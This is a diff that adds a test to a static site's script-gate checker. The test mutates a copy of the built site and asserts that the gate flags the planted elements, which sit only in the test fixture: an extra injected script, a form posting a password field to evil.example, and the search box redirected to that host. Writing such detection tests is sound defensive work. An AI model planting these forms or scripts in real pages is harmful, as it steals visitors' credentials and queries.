@@ -164,6 +164,43 @@ describe('the script gate', () => {
       fs.rmSync(copy, { recursive: true, force: true });
     }
   });
+  test('accepts the site\'s own search boxes and script, and catches any other form or script', async () => {
+    const copy = tempDir('mutated-search');
+    fs.cpSync(OUTPUT, copy, { recursive: true });
+    const searchPage = path.join(copy, 'search', 'index.html');
+    const html = fs.readFileSync(searchPage, 'utf8');
+    assert.ok(html.includes('assets/search.js'), 'the search page has no search.js');
+    // Another external script beside search.js, a form that posts elsewhere, a text box.
+    fs.writeFileSync(path.join(copy, 'search', 'planted.html'), html
+      .replace('</head>', '<script src="../assets/planted.js" defer></script></head>')
+      .replace('</main>', '<form action="https://evil.example/" method="post"><input name="pw"></form></main>'));
+    const home = fs.readFileSync(path.join(copy, 'index.html'), 'utf8');
+    // The header box sending its query off the site.
+    fs.writeFileSync(path.join(copy, 'planted.html'), home.replace(/(<form class="site-search"[^>]*action=")[^"]*"/, '$1https://evil.example/search/"'));
+    const s = await serve(copy, mount);
+    const p = await browser.context.newPage();
+    try {
+      for (const url of ['', 'search/', 'search/?q=移住']) {
+        await p.goto(s.base + url, { waitUntil: 'load' });
+        assert.deepEqual(await scriptFindings(p), [], `/${url}`);
+      }
+      await p.goto(s.base + 'search/planted.html', { waitUntil: 'load' });
+      const found = await scriptFindings(p);
+      for (const want of ['<script> element in the page', '<form> element in the page', '<input> element in the page']) {
+        assert.ok(found.includes(want), `missing "${want}" in:\n${found.join('\n')}`);
+      }
+      assert.equal(found.filter((f) => f === '<script> element in the page').length, 1, found.join('\n'));
+      await p.goto(s.base + 'planted.html', { waitUntil: 'load' });
+      const header = await scriptFindings(p);
+      for (const want of ['<form> element in the page', '<input#site-search-q> element in the page', '<button> element in the page']) {
+        assert.ok(header.includes(want), `missing "${want}" in:\n${header.join('\n')}`);
+      }
+    } finally {
+      await p.close();
+      await s.close();
+      fs.rmSync(copy, { recursive: true, force: true });
+    }
+  });
   test('catches the live script in a mutated copy of a built page', async () => {
     const copy = tempDir('mutated-script');
     fs.cpSync(OUTPUT, copy, { recursive: true });
